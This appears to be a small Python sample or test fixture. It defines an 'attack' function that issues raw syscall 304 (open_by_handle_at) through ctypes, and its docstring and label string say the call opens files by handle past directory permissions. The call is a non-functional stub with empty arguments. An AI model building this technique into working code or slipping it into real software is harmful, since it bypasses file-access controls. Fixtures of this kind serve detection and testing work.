"""Open a file by its handle, past every folder's rights."""

import ctypes

libc = ctypes.CDLL(None)

TELLS = "open a file by its handle"


def attack(*arguments, **named):
    libc.syscall(304, 0, ctypes.create_string_buffer(64), 0)
